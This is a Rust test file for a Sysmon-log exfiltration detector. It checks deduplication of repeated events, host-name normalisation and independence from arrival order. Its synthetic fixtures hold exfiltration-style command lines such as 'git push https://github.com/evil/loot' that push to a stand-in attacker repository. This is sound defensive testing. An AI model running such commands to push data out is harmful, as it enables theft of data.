//! The same event met twice is one; two events under one number are two; and a host is one in any spelling.

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test says what fails by failing"
)]

use std::path::Path;
use std::sync::Mutex;

use exfilscope::detect::pattern::Patterns;
use exfilscope::detect::profile::Profile;
use exfilscope::model::batch::{Batch, EventHead, SourceId};
use exfilscope::model::event::Field;
use exfilscope::model::fault::{Severity, SkipReason};
use exfilscope::model::feed::{FeedMessage, Progress, SourceInfo};
use exfilscope::model::guid::Guid;
use exfilscope::model::row::AlertRow;
use exfilscope::model::time::Timestamp;
use exfilscope::source::{LoadOptions, load};
use exfilscope::store::list::listing::{GroupKey, Listing, Query};
use exfilscope::store::push_matrix::{Axis, PushMatrixBuilder, PushMatrixInputs};
use exfilscope::store::tuning_matches::TuningMatches;
use exfilscope::store::{Collect, HostNaming, Store};
use proptest::prelude::*;

/// An event in one dialect.
#[derive(Clone, Debug)]
struct Event {
    code: u16,
    source: u32,
    record: u64,
    time: &'static str,
    process: u8,
    fields: Vec<(Field, String)>,
}

impl Event {
    fn new(code: u16, record: u64, fields: &[(Field, &str)]) -> Self {
        let own = |(field, text): &(Field, &str)| (*field, (*text).to_owned());
        let mut fields: Vec<_> = fields.iter().map(own).collect();
        fields.push((Field::Computer, "WS-1.corp.example".to_owned()));
        Self { code, source: 0, record, time: "2026-03-01T13:37:01.1234567Z", process: 1, fields }
    }

    fn with(mut self, field: Field, text: &str) -> Self {
        self.fields.retain(|(own, _)| *own != field);
        self.fields.push((field, text.to_owned()));
        self
    }

    fn without(mut self, field: Field) -> Self {
        self.fields.retain(|(own, _)| *own != field);
        self
    }

    fn at(self, time: &'static str) -> Self {
        Self { time, ..self }
    }

    fn of(self, process: u8) -> Self {
        Self { process, ..self }
    }

    fn from(self, source: u32) -> Self {
        Self { source, ..self }
    }
}

fn push() -> Event {
    Event::new(
        1,
        7,
        &[
            (Field::User, r"CORP\ann"),
            (Field::Image, r"C:\Program Files\Git\cmd\git.exe"),
            (Field::CommandLine, "git push https://github.com/evil/loot"),
            (Field::ParentImage, r"C:\Windows\System32\cmd.exe"),
            (Field::ParentCommandLine, "cmd /c run"),
        ],
    )
}

fn connection() -> Event {
    Event::new(
        3,
        8,
        &[
            (Field::Image, r"C:\Python311\python.exe"),
            (Field::DestinationHostname, "-"),
            (Field::DestinationIp, "140.82.113.3"),
        ],
    )
}

fn query() -> Event {
    Event::new(
        22,
        6,
        &[
            (Field::Image, r"C:\Python311\python.exe"),
            (Field::QueryName, "github.com"),
            (Field::QueryResults, "::ffff:140.82.113.3;"),
        ],
    )
}

fn end() -> Event {
    Event::new(5, 9, &[(Field::Image, r"C:\Python311\python.exe")])
}

fn store_of(events: &[Event], retention: Collect, is_deferred: bool) -> Store {
    let mut store = Store::new(HostNaming::Computer, retention);
    if is_deferred {
        store.defer_joins();
    }
    for id in 0..4 {
        let name = format!("{id}.evtx");
        store.add_source(SourceInfo { id: SourceId(id), path: name.clone().into(), name, size: None });
    }
    for event in events {
        let mut batch = Batch::new(SourceId(event.source));
        let head = EventHead {
            event_code: event.code,
            time: Timestamp::parse(event.time),
            record_id: Some(event.record),
            place: event.record,
            process_guid: Some(Guid::from_written_order([event.process; 16])).filter(|it| !it.is_zero()),
            parent_process_guid: None,
        };
        batch.push(head, event.fields.iter().map(|(field, text)| (*field, text.as_str())));
        batch.tally.count_sysmon(event.code);
        store.ingest(batch);
    }
    store.finish_joins();
    store
}

fn rows(store: &mut Store, profile: Profile) -> Vec<AlertRow> {
    let mut flags = TuningMatches::new(Patterns::new(None, None).unwrap());
    flags.extend(store);
    let query = Query { min_score: 0, ..Query::alerts(profile) };
    let listing = Listing::new(store, &flags, &query);
    listing.findings.iter().filter_map(|id| store.row(*id, profile, &flags)).collect()
}

fn duplicates(store: &Store) -> u64 {
    store.tally().skipped.get(&SkipReason::Duplicate).copied().unwrap_or(0)
}

const STORES: [(Collect, bool); 5] = [
    (Collect::Everything, false),
    (Collect::Leads, false),
    (Collect::Joins, true),
    (Collect::Joins, false),
    (Collect::Selected, true),
];

#[test]
fn only_identical_events_count_once() {
    let c = r"C:\Windows\System32\svchost.exe";
    // The other event, whether it is the same, and whether it gives the lie to the first.
    for (case, one, other, is_same, is_named) in [
        ("a copy", push(), push(), true, false),
        ("three digits", push(), push().at("2026-03-01T13:37:01.123Z"), true, false),
        (
            "a rounded second",
            push().at("2026-03-01T13:37:01.9996Z"),
            push().at("2026-03-01T13:37:02.000Z"),
            true,
            false,
        ),
        ("another spelling", push(), push().with(Field::Computer, "ws-1.CORP.example"), true, false),
        ("another account's form", push(), push().with(Field::User, "ann"), true, false),
        ("no account", push(), push().without(Field::User), true, false),
        (
            "a blank more",
            push(),
            push().with(Field::CommandLine, "git push https://github.com/evil/loot "),
            true,
            false,
        ),
        ("no name and -", connection(), connection().without(Field::DestinationHostname), true, false),
        ("another image", push(), push().with(Field::Image, c), false, true),
        (
            "another text",
            push(),
            push().with(Field::CommandLine, "git push https://github.com/evil/l00t"),
            false,
            true,
        ),
        ("another account", push(), push().with(Field::User, r"CORP\bob"), false, true),
        ("another parent", push(), push().with(Field::ParentImage, r"C:\VS\Code.exe"), false, true),
        ("another process", push(), push().of(2), false, true),
        ("another address", connection(), connection().with(Field::DestinationIp, "1.2.3.4"), false, true),
        (
            "another answer",
            query(),
            query().with(Field::QueryResults, "-").with(Field::QueryName, "api.github.com"),
            false,
            true,
        ),
        ("a text less", push(), push().without(Field::CommandLine), false, false),
        ("a parent less", push(), push().without(Field::ParentImage), false, false),
        ("a process less", connection(), connection().of(0), false, false),
        ("another second", push(), push().at("2026-03-01T13:37:03.1234567Z"), false, false),
        ("another tick", push(), push().at("2026-03-01T13:37:01.1234568Z"), false, false),
        ("another number", push(), Event { record: 17, ..push() }, false, false),
        ("another host", push(), push().with(Field::Computer, "WS-2.corp.example"), false, false),
    ] {
        for events in [[one.clone(), other.clone().from(1)], [other.from(1), one]] {
            for retention in [Collect::Everything, Collect::Leads] {
                let store = store_of(&events, retention, false);
                assert_eq!(duplicates(&store), u64::from(is_same), "{case}: {:#?}", store.faults());
                assert_eq!(store.tally().records(), 2, "{case}");
                let named: Vec<_> = store.faults().iter().map(|fault| fault.severity).collect();
                assert_eq!(
                    named,
                    vec![Severity::Loss; usize::from(is_named)],
                    "{case}: {:#?}",
                    store.faults()
                );
            }
        }
    }
}

#[test]
fn a_planted_event_hides_no_other() {
    let svchost = push()
        .with(Field::Image, r"C:\Windows\System32\svchost.exe")
        .with(Field::CommandLine, "svchost -k netsvcs")
        .of(2);
    for planted in [
        svchost,
        push().without(Field::CommandLine),
        push().without(Field::Image),
        push().with(Field::CommandLine, "git status"),
        Event { fields: end().fields, code: 5, ..push() },
    ] {
        for (retention, is_deferred) in STORES {
            for events in [[planted.clone(), push().from(1)], [push(), planted.clone().from(1)]] {
                let mut store = store_of(&events, retention, is_deferred);
                let rows = rows(&mut store, Profile::Spl);
                let texts: Vec<_> = rows.iter().map(|row| row.command_line.as_deref()).collect();
                let whole = rows.iter().filter(|row| row.suspicion_score == 3 && row.image.is_some()).count();
                assert!(
                    whole == 1 && texts.contains(&Some("git push https://github.com/evil/loot")),
                    "{texts:?}"
                );
                assert_eq!(duplicates(&store), 0, "{planted:?}");
            }
        }
    }
    // The source of a connection's name is not taken away either.
    for planted in [query().of(2), query().with(Field::QueryResults, "-"), query().of(0)] {
        for (retention, is_deferred) in &STORES[..4] {
            let events = [planted.clone(), query().from(1), connection().from(1)];
            let mut store = store_of(&events, *retention, *is_deferred);
            assert_eq!(rows(&mut store, Profile::Correlated).len(), 1, "{planted:?}");
        }
    }
}

/// Observable content of a store, independent of the order of arrival.
fn seen(mut store: Store) -> (Vec<String>, u64, u64, usize) {
    let mut rows: Vec<String> = rows(&mut store, Profile::Correlated)
        .iter()
        .map(|row| {
            let time = row.time.map(|time| time.to_string());
            format!(
                "{time:?} {:?} {:?} {:?} {:?}",
                row.user, row.command_line, row.destination_hostname, row.source
            )
        })
        .collect();
    rows.sort();
    (rows, store.tally().sysmon, duplicates(&store), store.faults().len())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn order_of_arrival_changes_nothing(order in Just((0..14_usize).collect::<Vec<_>>()).prop_shuffle()) {
        let millis = "2026-03-01T13:37:01.123Z";
        let all = [
            push(),
            push().from(1),
            push().from(2).at(millis).without(Field::User),
            push().from(3).of(3).with(Field::CommandLine, "git push https://github.com/other/box"),
            query(),
            query().from(1).at(millis),
            connection(),
            connection().from(1).at(millis).without(Field::DestinationHostname),
            connection().from(2).of(4).with(Field::DestinationIp, "1.2.3.4"),
            end(),
            end().from(1).at(millis),
            Event { record: 70, ..push() },
            Event { record: 70, ..push() }.from(1).with(Field::Computer, "ws-1.corp.example"),
            push().from(1).without(Field::ParentImage),
        ];
        for (retention, is_deferred) in STORES {
            let expected = seen(store_of(&all, retention, is_deferred));
            let shuffled: Vec<Event> = order.iter().map(|at| all[*at].clone()).collect();
            prop_assert_eq!(seen(store_of(&shuffled, retention, is_deferred)), expected);
        }
    }
}

#[test]
fn tallied_events_count_once() {
    for (retention, is_deferred) in STORES {
        let events =
            [end(), connection(), end().from(1).at("2026-03-01T13:37:01.123Z"), connection().from(1)];
        let store = store_of(&events, retention, is_deferred);
        assert_eq!((store.tally().sysmon, duplicates(&store)), (2, 2), "{retention:?} {is_deferred}");
        assert_eq!(store.tally().event_codes[&5], 1);
    }
}

/// The store of some files.
fn loaded(paths: &[std::path::PathBuf]) -> Store {
    let store = Mutex::new(Store::new(HostNaming::Computer, Collect::Joins));
    load(paths, &LoadOptions { threads: 2 }, &Progress::default(), &|message| {
        let mut store = store.lock().unwrap();
        match message {
            FeedMessage::Source(source) => store.add_source(source),
            FeedMessage::Batch(batch) => store.ingest(batch),
            FeedMessage::Fault(fault) => store.add_fault(fault),
            FeedMessage::Finished => {}
        }
        true
    });
    store.into_inner().unwrap()
}

#[test]
fn copied_json_counts_once() {
    use std::fmt::Write as _;
    let mut json = String::new();
    for record in 0..6_000 {
        let id = if record % 3 == 0 { 1 } else { 10 };
        writeln!(
            json,
            "{{\"SourceName\":\"Microsoft-Windows-Sysmon\",\"EventID\":{id},\"RecordNumber\":{record},\"Hostname\":\"ws\",\
             \"@timestamp\":\"2026-03-01T13:37:01.123Z\",\"Image\":\"C:\\\\a.exe\",\"CommandLine\":\"a {record}\"}}"
        )
        .unwrap();
    }
    assert!(json.len() > 3 * (256 << 10), "several blocks");
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gzip, json.as_bytes()).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let put = |name: &str, bytes: &[u8]| {
        let path = folder.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        path
    };
    let paths = [
        put("a.json", json.as_bytes()),
        put("b.json", json.as_bytes()),
        put("c.json.gz", &gzip.finish().unwrap()),
    ];
    let once = loaded(&paths[..1]);
    assert_eq!((once.tally().sysmon, once.tally().event_codes[&10]), (6_000, 4_000));
    let all = loaded(&paths);
    assert_eq!(all.tally().event_codes, once.tally().event_codes);
    assert_eq!((all.tally().sysmon, duplicates(&all)), (6_000, 12_000));
    // Without a number two events may be two.
    let without = put("d.json", json.replace("RecordNumber", "Number").as_bytes());
    let copy = put("e.json", json.replace("RecordNumber", "Number").as_bytes());
    assert_eq!(loaded(&[without, copy]).tally().event_codes[&10], 8_000);
}

#[test]
fn copied_log_counts_once() {
    let log = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/developers-day");
    let fixtures = std::fs::read_dir(log).unwrap().map(|entry| entry.unwrap().path());
    let log = fixtures.into_iter().find(|path| path.extension().is_some_and(|it| it == "evtx")).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let copy = folder.path().join("copy.evtx");
    std::fs::copy(&log, &copy).unwrap();
    let of = |paths: &[std::path::PathBuf], is_deferred| {
        let mut store = Store::new(HostNaming::Computer, Collect::Joins);
        if is_deferred {
            store.defer_joins();
        }
        let store = Mutex::new(store);
        load(paths, &LoadOptions { threads: 2 }, &Progress::default(), &|message| {
            let mut store = store.lock().unwrap();
            match message {
                FeedMessage::Source(source) => store.add_source(source),
                FeedMessage::Batch(batch) => store.ingest(batch),
                FeedMessage::Fault(fault) => store.add_fault(fault),
                FeedMessage::Finished => {}
            }
            true
        });
        store.into_inner().unwrap()
    };
    for is_deferred in [false, true] {
        let once = of(std::slice::from_ref(&log), is_deferred);
        let twice = of(&[log.clone(), copy.clone()], is_deferred);
        assert!(
            once.tally().event_codes.keys().any(|code| !matches!(code, 1 | 3 | 5 | 11 | 22)),
            "some are only counted"
        );
        assert_eq!(once.tally().event_codes, twice.tally().event_codes);
        assert_eq!(duplicates(&twice), once.tally().sysmon);
        assert_eq!(twice.tally().records(), 2 * once.tally().records());
        assert_eq!(twice.faults(), once.faults());
        assert_eq!(twice.coverage(), once.coverage());
    }
}

#[test]
fn many_events_sharing_number_are_summarised() {
    let events: Vec<Event> = (0..500)
        .map(|number| push().with(Field::CommandLine, &format!("git push https://github.com/evil/{number}")))
        .collect();
    let mut store = store_of(&events, Collect::Joins, true);
    assert_eq!(rows(&mut store, Profile::Spl).len(), 500);
    assert_eq!(duplicates(&store), 0);
    assert_eq!(store.faults().len(), 1, "a number is named once");
    let events: Vec<Event> = (0..50)
        .map(|number| Event { record: number / 2, ..push() }.of(1 + u8::try_from(number % 2).unwrap()))
        .collect();
    let store = store_of(&events, Collect::Joins, true);
    assert_eq!(store.faults().len(), 21);
    let last = store.faults().last().unwrap();
    assert!(last.reason().contains("5 more record numbers"), "{last}");
}

#[test]
fn host_in_any_spelling_is_one() {
    for (naming, shown) in [(HostNaming::Computer, "WS-1.corp.example"), (HostNaming::Short, "WS-1")] {
        let mut store = Store::new(naming, Collect::Everything);
        store.add_source(SourceInfo {
            id: SourceId(0),
            path: "a.json".into(),
            name: "a.json".to_owned(),
            size: None,
        });
        for (record, computer) in
            [(1, "WS-1.corp.example"), (2, "ws-1.corp.example"), (3, "Ws-1.Corp.Example")]
        {
            let event = push().with(Field::Computer, computer);
            let mut batch = Batch::new(SourceId(0));
            let head = EventHead {
                event_code: 1,
                time: Timestamp::parse(event.time),
                record_id: Some(record),
                place: record,
                process_guid: None,
                parent_process_guid: None,
            };
            batch.push(head, event.fields.iter().map(|(field, text)| (*field, text.as_str())));
            store.ingest(batch);
        }
        let hosts: Vec<_> =
            store.coverage().into_iter().map(|host| (host.host, host.process_creates)).collect();
        assert_eq!(hosts, [(shown.to_owned(), 3)]);
        let mut flags = TuningMatches::new(Patterns::new(None, None).unwrap());
        flags.extend(&store);
        let query = Query { group: Some(GroupKey::Host), ..Query::alerts(Profile::Spl) };
        let listing = Listing::new(&mut store, &flags, &query);
        let groups: Vec<_> = listing.groups.iter().map(|group| (group.key.as_str(), group.count)).collect();
        assert_eq!(groups, [(shown, 3)]);
        let basis = PushMatrixInputs::new(&store, &flags, Query::alerts(Profile::Spl), Axis::Host);
        let pushes = PushMatrixBuilder::new(basis).advance(&store, &flags, &|| false).unwrap();
        assert_eq!(pushes.columns.len(), 1);
        // A row holds its event's data.
        let spelled: Vec<_> = rows(&mut store, Profile::Spl).into_iter().filter_map(|row| row.host).collect();
        assert_eq!(spelled.len(), 3);
        assert!(spelled.iter().any(|host| host.starts_with("ws-1")), "{spelled:?}");
        for (wanted, expected) in [("ws-1", true), ("WS-1.CORP.example", true), ("ws-2", false)] {
            assert_eq!(store.knows_host(wanted), expected, "{wanted}");
        }
        assert_eq!(store.host_names(5), (vec!["WS-1.corp.example"], 0));
        assert_eq!(store.host_names(0), (vec![], 1));
    }
}
